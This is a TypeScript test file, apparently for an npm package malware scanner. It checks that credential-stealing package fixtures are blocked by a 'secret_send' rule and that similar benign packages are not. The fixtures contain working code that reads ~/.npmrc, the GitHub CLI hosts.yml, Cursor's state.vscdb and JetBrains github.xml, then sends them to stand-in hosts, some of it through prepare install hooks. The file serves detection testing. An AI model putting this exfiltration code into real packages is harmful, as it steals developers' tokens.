/**
 * The npm families of the twenty-second round (pkg-analysis-2026.12.8, docs/package-analysis.md "Branch `pkg23npm`,
 * second round"): each rule with its real case (SET12's tuning half), two variants written here in other syntax or
 * layout, and the honest twins it must leave below CAUTION.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rateNpmFiles } from '../support/blind-halves.js';
import { NPM_TWINS_SET12, NPM_VARIANTS_SET12 } from '../support/npm-variants-set12.js';

const pkg = (o: Record<string, unknown>) => JSON.stringify({ version: '1.0.0', ...o });
const real = (id: string) => {
  const i = NPM_VARIANTS_SET12.findIndex((v) => v.id === id);
  assert.ok(i >= 0 && i % 2 === 0, `${id} is a tuning-half item`);
  return NPM_VARIANTS_SET12[i]!.files;
};
const twin = (id: string) => NPM_TWINS_SET12.find((v) => v.id === id)!.files;

async function blockedBy(files: Record<string, string | Buffer>, rule: string, label: string): Promise<void> {
  const r = await rateNpmFiles(files, { name: 'p', version: '1.0.0' });
  assert.is(r.level, 'BLOCKED', `${label}: ${r.rules.join(' ')}`);
  assert.ok(r.rules.some((x) => x.startsWith(`${rule}:`)), `${label}: ${r.rules.join(' ')}`);
}
async function honest(files: Record<string, string | Buffer>, label: string): Promise<void> {
  const r = await rateNpmFiles(files, { name: 'p', version: '1.0.0' });
  assert.ok(r.level === 'CLEAR' || r.level === 'MONITORED', `${label}: ${r.level} ${r.rules.join(' ')}`);
}

// A credential a `prepare` hook's file sends off the machine keeps its severity: git and local installs run the hook.
test('prepare hook sending a credential: real case and two variants are BLOCKED by secret_send', async () => {
  await blockedBy(real('prepare-script-gh-cli-token'), 'secret_send', 'real: gh hosts.yml + gh auth token');
  await blockedBy(
    {
      'package.json': pkg({ name: 'ui-kit-x', main: 'dist/index.js', scripts: { prepare: 'npm run setup', setup: 'node tools/init.mjs' } }),
      'tools/init.mjs': `import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
let rc = '';
try { rc = readFileSync(join(homedir(), '.npmrc'), 'utf8'); } catch {}
await fetch('https://collect.ui-kit-build.example/v1', { method: 'POST', body: JSON.stringify({ rc }) }).catch(() => {});
`,
      'dist/index.js': 'export const k = 1;\n',
    },
    'secret_send',
    'variant: ESM through npm run, ~/.npmrc with fetch',
  );
  await blockedBy(
    {
      'package.json': pkg({ name: 'lint-rules-y', main: 'index.js', scripts: { prepare: 'node ./build/prep.cjs' } }),
      'build/prep.cjs': `const fs = require('fs');
const os = require('os');
const https = require('https');
const t = fs.readFileSync(os.homedir() + '/.config/gh/hosts.yml', 'utf8');
const r = https.request({ host: '203.0.113.7', path: '/u', method: 'PUT' });
r.on('error', () => {});
r.end(Buffer.from(t).toString('base64'));
`,
      'index.js': 'module.exports = {};\n',
    },
    'secret_send',
    'variant: CommonJS, gh hosts.yml by concatenation, to an IP',
  );
});

test('prepare hook honest twins: local git hooks path, a build that fetches a public schema', async () => {
  await honest(twin('twin-prepare-sets-local-hooks-path'), 'twin: core.hooksPath');
  await honest(
    {
      'package.json': pkg({ name: 'schema-types', main: 'index.js', scripts: { prepare: 'node scripts/gen.js' } }),
      'scripts/gen.js': `const fs = require('fs');
const https = require('https');
https.get('https://schemas.schema-types.example/v1.json', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => fs.writeFileSync('types.json', b)); });
`,
      'index.js': 'module.exports = {};\n',
    },
    'twin: a build fetching a public schema',
  );
});

// Editors' and developer tools' sign-in stores are credential stores (patterns.ts CREDENTIAL_STORE): VS Code-family
// state.vscdb, the GitHub CLI's hosts.yml, JetBrains' github.xml; a list mapped to such paths names them too.
test('IDE sign-in stores sent off the machine: real case and two variants are BLOCKED by secret_send', async () => {
  await blockedBy(real('ide-state-db-over-websocket'), 'secret_send', 'real: state.vscdb over a WebSocket');
  await blockedBy(
    {
      'package.json': pkg({ name: 'cursor-theme-z', type: 'module', exports: './index.mjs' }),
      'index.mjs': `import { readFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
const db = path.join(os.homedir(), '.config', 'Cursor', 'User', 'globalStorage', 'state.vscdb');
const b = await readFile(db).catch(() => null);
if (b) await fetch('https://themes.cursor-sync.example/up', { method: 'POST', body: b }).catch(() => {});
export const theme = 'dark';
`,
    },
    'secret_send',
    'variant: ESM readFile of Cursor state.vscdb, fetch',
  );
  await blockedBy(
    {
      'package.json': pkg({ name: 'jb-colors', main: 'lib/index.js' }),
      'lib/index.js': `const fs = require('fs');
const path = require('path');
const https = require('https');
const root = path.join(process.env.APPDATA || '', 'JetBrains');
const files = ['IntelliJIdea2025.1', 'PyCharm2025.1'].map((d) => path.join(root, d, 'options', 'github.xml'));
for (const f of files) {
  let x = '';
  try { x = fs.readFileSync(f, 'utf8'); } catch (e) { continue; }
  const r = https.request({ host: 'colors.jb-sync.example', method: 'POST', path: '/c' });
  r.on('error', () => {});
  r.end(x);
}
module.exports = {};
`,
    },
    'secret_send',
    'variant: CommonJS, JetBrains github.xml over a mapped list',
  );
});

test('IDE store honest twins: settings.json to a configured endpoint, state.vscdb read locally', async () => {
  await honest(
    {
      'package.json': pkg({ name: 'settings-sync-h', main: 'index.js' }),
      'index.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
exports.push = async (endpoint) => {
  const s = fs.readFileSync(path.join(os.homedir(), '.config', 'Code', 'User', 'settings.json'), 'utf8');
  return fetch(endpoint, { method: 'POST', body: s });
};
`,
    },
    'twin: settings.json to the endpoint the user gives',
  );
  await honest(
    {
      'package.json': pkg({ name: 'vscode-ext-list', bin: { 'ext-list': 'cli.js' } }),
      'cli.js': `#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const path = require('path');
const db = path.join(os.homedir(), '.config', 'Code', 'User', 'globalStorage', 'state.vscdb');
console.log(fs.existsSync(db) ? fs.statSync(db).size + ' bytes of editor state' : 'no editor state');
`,
    },
    'twin: state.vscdb looked at locally',
  );
});

test.run();
